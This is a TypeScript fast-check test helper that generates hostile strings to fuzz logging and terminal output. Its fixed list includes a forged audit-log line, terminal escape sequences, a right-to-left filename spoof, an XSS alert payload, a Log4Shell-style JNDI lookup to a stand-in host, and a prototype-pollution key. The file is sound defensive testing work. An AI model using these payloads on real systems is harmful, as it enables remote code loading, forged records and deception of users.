import fc from 'fast-check';

/** What breaks lines, terminals and readers of logs, as a test tries it. */
const HOSTILE_TEXTS: readonly string[] = [
  'a\nb',
  'a\r\n{"level":"audit","event":"sign_in","outcome":"ok"}',
  '"},{"level":"error"',
  '\\',
  '\\u000a',
  '\u0000\u0007\u001b[2J\u001b]0;title\u0007',
  '\u007f\u0085\u009b31m',
  '\u202egnp.exe\u202c\u2066\u2069',
  '\u200b\u200d\ufeff\u00ad',
  '\u2028\u2029',
  '\ud800',
  'x\udfff\ud83d',
  '\u{e0041}\u{f0000}\ufffe',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.test}',
  '__proto__',
  'x'.repeat(100_000),
  '😀'.repeat(10_000),
];

/** Any text there is, and the hostile ones within it. */
export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.nat(0xffff).map((unit) => String.fromCharCode(unit)), maxLength: 700 }),
  fc
    .tuple(fc.string(), fc.constantFrom(...HOSTILE_TEXTS), fc.string())
    .map((parts) => parts.join('')),
);

/** Characters that do something other than show themselves. */
export const ACTING = /[\p{C}\p{Zl}\p{Zp}]/u;
